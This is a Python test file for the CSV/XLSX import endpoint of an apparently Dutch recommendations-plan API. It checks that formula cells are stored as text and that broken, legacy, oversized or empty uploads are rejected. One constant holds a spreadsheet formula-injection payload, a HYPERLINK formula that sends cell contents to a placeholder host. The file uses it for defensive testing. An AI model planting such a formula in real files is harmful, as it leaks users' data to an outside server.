"""Hostile and broken uploads: formulas stay text, damaged files are a clear 400 that stores
nothing, oversized files are 413."""

import io
import zipfile

import openpyxl
from httpx import AsyncClient, Response

from tests.auth_headers import BEHEERDER_RENKUM
from tests.verbeterplan.helpers import XLSX, csv_of, import_csv, plan

HYPERLINK = '=HYPERLINK("http://voorbeeld.invalid/?d="&A1,"Klik")'


async def _post(client: AsyncClient, content: bytes, media_type: str) -> Response:
    return await client.post(
        "/aanbevelingen/_import",
        content=content,
        headers={**BEHEERDER_RENKUM, "Content-Type": media_type},
    )


def _xlsx(*rows: list[str]) -> bytes:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["Nr", "Aanbeveling", "Reactie", "Actie", "Wie", "Planning"])
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


async def test_formula_cells_in_a_csv_are_stored_as_text(client: AsyncClient) -> None:
    content = csv_of(f'A;"{HYPERLINK.replace(chr(34), chr(34) * 2)}";;=1+1;@SUM(A1);')

    response = await import_csv(client, content, BEHEERDER_RENKUM)

    assert response.status_code == 200, response.text
    stored = (await plan(client, BEHEERDER_RENKUM))[0]
    assert stored["tekst"] == HYPERLINK
    assert stored["acties"][0]["omschrijving"] == "=1+1"
    assert stored["acties"][0]["eigenaar"] == "@SUM(A1)"


async def test_formula_cells_in_an_xlsx_are_stored_as_text_not_evaluated(
    client: AsyncClient,
) -> None:
    content = _xlsx(["A", HYPERLINK, None, "=1+1", None, None])  # type: ignore[list-item]

    response = await _post(client, content, XLSX)

    assert response.status_code == 200, response.text
    stored = (await plan(client, BEHEERDER_RENKUM))[0]
    assert stored["tekst"] == HYPERLINK
    assert stored["acties"][0]["omschrijving"] == "=1+1"


async def test_a_broken_xlsx_is_400_and_stores_nothing(client: AsyncClient) -> None:
    content = b"PK\x03\x04" + b"\x00garbage" * 100

    response = await _post(client, content, XLSX)

    assert response.status_code == 400
    assert "damaged" in response.json()["invalidParams"][0]["reason"]
    assert await plan(client, BEHEERDER_RENKUM) == []


async def test_a_zip_that_is_no_workbook_is_400(client: AsyncClient) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "geen werkmap")

    response = await _post(client, buffer.getvalue(), XLSX)

    assert response.status_code == 400
    assert response.json()["invalidParams"][0]["name"] == "bestand"


async def test_a_text_file_sent_as_xlsx_is_400(client: AsyncClient) -> None:
    response = await _post(client, csv_of("A;Tekst;;;;"), XLSX)

    assert response.status_code == 400


async def test_the_old_binary_xls_format_is_400_with_advice(client: AsyncClient) -> None:
    response = await _post(client, b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(512), XLSX)

    assert response.status_code == 400
    assert ".xls" in response.json()["invalidParams"][0]["reason"]


async def test_a_garbage_csv_is_400_and_stores_nothing(client: AsyncClient) -> None:
    garbage = bytes((index * 37) % 256 for index in range(4096))

    response = await import_csv(client, garbage, BEHEERDER_RENKUM)

    assert response.status_code == 400
    assert response.json()["invalidParams"][0]["name"] == "bestand"
    assert await plan(client, BEHEERDER_RENKUM) == []


async def test_a_csv_that_is_neither_utf8_nor_windows_1252_is_400_naming_the_encoding(
    client: AsyncClient,
) -> None:
    content = csv_of("A;Tekst;;;;") + b"B;\x81\x8d;;;;\r\n"

    response = await import_csv(client, content, BEHEERDER_RENKUM)

    assert response.status_code == 400
    reason = response.json()["invalidParams"][0]["reason"]
    assert "UTF-8" in reason
    assert "Windows-1252" in reason


async def test_a_windows_1252_csv_from_dutch_excel_is_read(client: AsyncClient) -> None:
    content = "Nr;Aanbeveling\r\nA;Coördinatie van één aanbeveling\r\n".encode("cp1252")

    response = await import_csv(client, content, BEHEERDER_RENKUM)

    assert response.status_code == 200, response.text
    assert (await plan(client, BEHEERDER_RENKUM))[0]["tekst"] == "Coördinatie van één aanbeveling"


async def test_a_file_over_the_limit_is_413(client: AsyncClient) -> None:
    content = csv_of("A;Tekst;;;;") + b"x" * (2 * 1024 * 1024)

    response = await import_csv(client, content, BEHEERDER_RENKUM)

    assert response.status_code == 413
    assert response.headers["content-type"] == "application/problem+json"


async def test_another_media_type_is_415(client: AsyncClient) -> None:
    response = await _post(client, b'{"a": 1}', "application/json")

    assert response.status_code == 415


async def test_a_form_without_the_field_bestand_is_400(client: AsyncClient) -> None:
    response = await client.post(
        "/aanbevelingen/_import",
        files={"bijlage": ("plan.csv", csv_of("A;Tekst;;;;"), "text/csv")},
        headers=BEHEERDER_RENKUM,
    )

    assert response.status_code == 400
    assert response.json()["invalidParams"][0]["name"] == "bestand"


async def test_an_empty_file_is_400(client: AsyncClient) -> None:
    response = await import_csv(client, b"", BEHEERDER_RENKUM)

    assert response.status_code == 400
